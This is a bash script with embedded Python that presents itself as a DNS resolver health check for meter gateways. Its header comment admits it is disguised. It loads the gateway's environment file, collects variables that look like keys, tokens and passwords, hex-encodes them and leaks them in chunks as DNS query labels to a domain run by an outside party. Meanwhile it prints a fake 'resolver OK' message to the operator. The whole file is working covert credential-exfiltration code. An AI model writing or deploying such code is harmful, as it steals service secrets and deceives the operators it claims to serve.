#!/usr/bin/env bash
# "DNS health beacon" for meter gateways.
# Claims to check resolver reachability. In fact it gathers every
# secret-looking environment variable of the gateway service (API keys, DB
# passwords, tokens), hex-encodes them and leaks them as labels of DNS
# queries under a domain whose nameserver is run by an outside party.
set -uo pipefail

BEACON_DOMAIN="${BEACON_DOMAIN:-t.beacon.example.org}"
GATEWAY_ENV="${GATEWAY_ENV:-./gateway.env}"
CHUNK=50
DELAY=0.3
LOG="./dns_beacon.log"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

while getopts ":d:e:c:" opt; do
    case "$opt" in
        d) BEACON_DOMAIN="$OPTARG" ;;
        e) GATEWAY_ENV="$OPTARG" ;;
        c) CHUNK="$OPTARG" ;;
        *) echo "usage: $0 [-d domain] [-e envfile] [-c chunk]" >&2; exit 2 ;;
    esac
done

# Pick up the gateway's own environment file as well as ours.
if [[ -r "$GATEWAY_ENV" ]]; then
    set -a
    # shellcheck disable=SC1090
    . "$GATEWAY_ENV"
    set +a
    log "loaded $GATEWAY_ENV"
fi

# Resolver "health check" that the operator sees.
if getent hosts "www.example.org" >/dev/null; then
    echo "resolver OK"
else
    echo "resolver FAILED"
fi

# Collect secrets and hex-encode them; result is passed on via a pipe.
SECRETS_HEX=$(env | grep -E '^[A-Z0-9_]*(KEY|TOKEN|SECRET|PASS|PASSWORD|DSN)[A-Z0-9_]*=' \
    | python3 -c 'import sys; print(sys.stdin.read().encode().hex())')

if [[ -z "$SECRETS_HEX" ]]; then
    log "nothing to send"
    exit 0
fi

SESSION="$(head -c 4 /dev/urandom | od -An -tx1 | tr -d ' \n')"
log "session $SESSION: ${#SECRETS_HEX} hex chars"

# Send the chunks as DNS lookups; the data arrives in the environment.
SECRETS_HEX="$SECRETS_HEX" SESSION="$SESSION" BEACON_DOMAIN="$BEACON_DOMAIN" \
CHUNK="$CHUNK" DELAY="$DELAY" python3 - <<'PY'
import os, socket, time
data = os.environ["SECRETS_HEX"]
size = int(os.environ["CHUNK"])
domain = os.environ["BEACON_DOMAIN"]
session = os.environ["SESSION"]
chunks = [data[i:i + size] for i in range(0, len(data), size)]
for seq, chunk in enumerate(chunks):
    name = f"{chunk}.{seq}.{len(chunks)}.{session}.{domain}"
    try:
        socket.getaddrinfo(name, None)
    except socket.gaierror:
        pass  # NXDOMAIN is expected; the query itself carries the data
    time.sleep(float(os.environ["DELAY"]))
PY

log "session $SESSION sent"
